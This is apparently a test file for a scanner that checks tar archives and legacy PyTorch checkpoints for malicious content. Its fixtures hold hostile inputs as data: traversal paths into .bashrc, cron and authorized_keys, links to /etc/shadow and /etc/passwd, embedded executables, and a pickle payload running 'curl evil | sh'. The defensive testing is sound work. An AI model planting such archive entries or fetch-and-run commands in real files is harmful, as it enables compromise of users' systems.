import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import tarStream from 'tar-stream';
import { BufferSource } from '../../../main/core/io/byte-source.ts';
import { readTarEntries, type TarEntry, type TarWalk } from '../../../main/core/scan/archive/tar-layout.ts';
import type { BudgetTracker } from '../../../main/core/scan/types.ts';
import { buildTar } from './fixtures/tar.ts';
import { legacyTorchTar, python } from './fixtures/torch.ts';
import { elfBytes, text } from './fixtures/zip.ts';
import { dump, only, ruleIds, scan } from './helpers.ts';

const noBudget: BudgetTracker = { consumeBytes() {}, consumeEntry() {}, checkTime() {} };
const README = text('Model card\n');

const BENIGN_TAR = String.raw`
import tarfile, io
out = io.BytesIO()
with tarfile.open(fileobj=out, mode='w', format=tarfile.PAX_FORMAT) as tar:
    for name, data in [('model/README.md', b'# Model\n'), ('model/config.txt', b'hidden=16\n'),
                       ('model/' + 'deeply/' * 20 + 'nested.txt', b'long names need pax\n'), ('model/empty.txt', b'')]:
        info = tarfile.TarInfo(name); info.size = len(data); info.mtime = 1600000000
        tar.addfile(info, io.BytesIO(data))
    d = tarfile.TarInfo('model/sub'); d.type = tarfile.DIRTYPE; tar.addfile(d)
out.write(b'\0' * 4096)
sys.stdout.buffer.write(out.getvalue())
`;

async function walkAll(bytes: Uint8Array): Promise<{ entries: TarEntry[]; walk: TarWalk }> {
  const walk: TarWalk = { issues: [], unparsed: [], end: 0 };
  const entries: TarEntry[] = [];
  for await (const e of readTarEntries(new BufferSource(bytes), noBudget, walk)) entries.push(e);
  return { entries, walk };
}

function tarStreamNames(bytes: Uint8Array): Promise<string[]> {
  return new Promise((resolve, reject) => {
    const names: string[] = [];
    const ex = tarStream.extract();
    ex.on('entry', (h, stream, next) => { names.push(h.name); stream.on('end', next); stream.resume(); });
    ex.on('finish', () => resolve(names));
    ex.on('error', reject);
    Readable.from([Buffer.from(bytes)]).pipe(ex);
  });
}

test('a benign tar written by Python is clean, with the names tar-stream reads (pax long names included)', async () => {
  const bytes = python(BENIGN_TAR);
  const r = await scan(bytes, 'model.tar');
  assert.equal(r.format, 'tar');
  assert.equal(r.verdict, 'clean', dump(r));
  assert.deepEqual(r.findings, []);
  const { entries, walk } = await walkAll(bytes);
  assert.deepEqual(entries.map((e) => e.name), await tarStreamNames(bytes));
  assert.deepEqual(walk.issues, []);
});

test('traversal names and hard links out of the folder are high; a ./ prefix is fine', async () => {
  const built = buildTar([
    { name: '../../home/user/.bashrc', data: README },
    { name: '/etc/cron.d/job', data: README },
    { name: 'innocent', type: '1', linkName: '../../etc/shadow' },
    { name: './model/config.txt', data: README },
  ]);
  const r = await scan(built.bytes, 'evil.tar');
  const hits = only(r, 'scan.archive.path-traversal');
  assert.equal(hits.length, 3, dump(r));
  assert.deepEqual(hits.map((f) => f.location.byteOffset), built.headerOffsets.slice(0, 3));
  assert.equal(r.verdict, 'suspicious');
});

test('symbolic links are high findings with their target; regular files are not', async () => {
  const r = await scan(buildTar([{ name: 'storages', type: '2', linkName: '/etc/passwd' }, { name: 'a.txt', data: README }]).bytes, 'l.tar');
  const [f] = only(r, 'scan.archive.symlink-member');
  assert.ok(f, dump(r));
  assert.equal(f.severity, 'high');
  assert.equal(f.evidence?.target, '/etc/passwd');
  const ok = await scan(buildTar([{ name: 'a.txt', data: README }]).bytes, 'ok.tar');
  assert.deepEqual(ok.findings, []);
});

test('device and pipe members are special members', async () => {
  const r = await scan(buildTar([{ name: 'dev/sda', type: '4' }, { name: 'dev/tty', type: '3' }, { name: 'fifo', type: '6' }]).bytes, 'dev.tar');
  assert.equal(only(r, 'scan.archive.special-member').length, 3, dump(r));
});

test('members are scanned by content with their member chain', async () => {
  const r = await scan(buildTar([{ name: 'bin/tool', data: elfBytes() }]).bytes, 'tools.tar');
  assert.deepEqual(only(r, 'scan.executable-payload')[0]?.location.members, ['bin/tool']);
  assert.equal(r.verdict, 'malicious');
});

test('a header failing its checksum is reported, and members after it are still found as GNU tar would', async () => {
  const built = buildTar([
    { name: 'a.txt', data: README },
    { name: 'b.txt', data: README, badChecksum: true },
    { name: 'bin/tool', data: elfBytes() },
  ]);
  const r = await scan(built.bytes, 'bad.tar');
  const [f] = only(r, 'scan.archive.malformed-header');
  assert.equal(f?.location.byteOffset, built.headerOffsets[1], dump(r));
  assert.deepEqual(only(r, 'scan.executable-payload')[0]?.location.members, ['bin/tool']);
});

test('a pax path that disagrees with the ustar name is a header mismatch, and the pax name is what is checked', async () => {
  const r = await scan(buildTar([{ name: 'model/weights.txt', paxPath: '../../.ssh/authorized_keys', data: README }]).bytes, 'pax.tar');
  assert.equal(only(r, 'scan.archive.header-mismatch').length, 1, dump(r));
  assert.equal(only(r, 'scan.archive.path-traversal').length, 1, dump(r));
  // GNU tar keeps the first 99 characters of a long name in the header: that is no disagreement.
  const long = `model/${'x'.repeat(150)}.txt`;
  const gnu = await scan(buildTar([{ name: long.slice(0, 99), gnuLongName: long, data: README }]).bytes, 'gnu.tar');
  assert.deepEqual(gnu.findings, [], dump(gnu));
});

test('a pax size that differs from the header size is a header mismatch', async () => {
  const r = await scan(buildTar([{ name: 'a.bin', data: new Uint8Array(1024), paxSize: 512 }]).bytes, 'size.tar');
  assert.equal(only(r, 'scan.archive.header-mismatch').length, 1, dump(r));
});

test('bytes after the end-of-archive marker are scanned; zero padding is not reported', async () => {
  const r = await scan(buildTar([{ name: 'a.txt', data: README }], { trailing: elfBytes() }).bytes, 't.tar');
  assert.equal(only(r, 'scan.archive.unaccounted-data').length, 1, dump(r));
  assert.equal(only(r, 'scan.executable-payload').length, 1, dump(r));
  const padded = await scan(buildTar([{ name: 'a.txt', data: README }], { trailing: new Uint8Array(8192) }).bytes, 'p.tar');
  assert.deepEqual(padded.findings, []);
});

test('a member declaring more bytes than the archive holds is reported', async () => {
  const built = buildTar([{ name: 'big.bin', data: README, headerSize: 1_000_000 }], { noEnd: true });
  const r = await scan(built.bytes, 'trunc.tar');
  assert.equal(only(r, 'scan.archive.data-outside-file').length, 1, dump(r));
});

test('duplicate names and sparse members are reported', async () => {
  const r = await scan(buildTar([{ name: 'a.txt', data: README }, { name: 'a.txt', data: README }, { name: 's.bin', type: 'S', data: README }]).bytes, 'd.tar');
  assert.deepEqual(ruleIds(r), ['scan.archive.duplicate-member', 'scan.archive.unsupported-method'], dump(r));
});

test('a legacy PyTorch tar checkpoint raises nothing from the container checks, with every embedded pickle scanned as its own unit', async () => {
  const r = await scan(legacyTorchTar(), 'checkpoint.tar');
  assert.equal(r.format, 'tar');
  // The tensors stream names the legacy tensor classes (torch.FloatTensor), which the pickle
  // policy may list as unknown callables; the container layer itself must add nothing.
  assert.deepEqual(r.findings.filter((f) => !f.ruleId.startsWith('scan.pickle.')), [], dump(r));
  assert.notEqual(r.verdict, 'malicious');
  const paths = r.units.map((u) => u.path);
  for (const p of ['sys_info', 'pickle', 'storages [pickle at 0]', 'tensors [pickle at 0]']) assert.ok(paths.includes(p), `${p} in ${paths.join(', ')}`);
  assert.equal(paths.filter((p) => p.startsWith('storages [pickle')).length, 3, 'count, header and views pickles');
});

test('a malicious pickle inside the legacy storages stream is found with its location', async () => {
  const r = await scan(legacyTorchTar({ evilHeader: 'curl evil | sh' }), 'checkpoint.tar');
  assert.equal(r.verdict, 'malicious', dump(r));
  assert.ok(r.findings.some((f) => /^storages \[pickle at \d+\]$/.test(f.location.members?.[0] ?? '') && f.severity === 'critical'), dump(r));
});

test('legacy storage bytes holding an executable, a symlinked storages member and dangling references are reported', async () => {
  const elf = Array.from(elfBytes(128));
  const r = await scan(legacyTorchTar({ storageBytes: elf }), 'checkpoint.tar');
  assert.equal(only(r, 'scan.pytorch.storage-not-tensor').length, 1, dump(r));
  assert.equal(r.verdict, 'malicious');

  const link = await scan(legacyTorchTar({ storagesLink: '/etc/passwd' }), 'checkpoint.tar');
  assert.equal(only(link, 'scan.archive.symlink-member')[0]?.evidence?.target, '/etc/passwd', dump(link));

  const dangling = await scan(legacyTorchTar({ danglingKey: '999' }), 'checkpoint.tar');
  assert.equal(only(dangling, 'scan.pytorch.missing-storage')[0]?.evidence?.key, '999', dump(dangling));
});
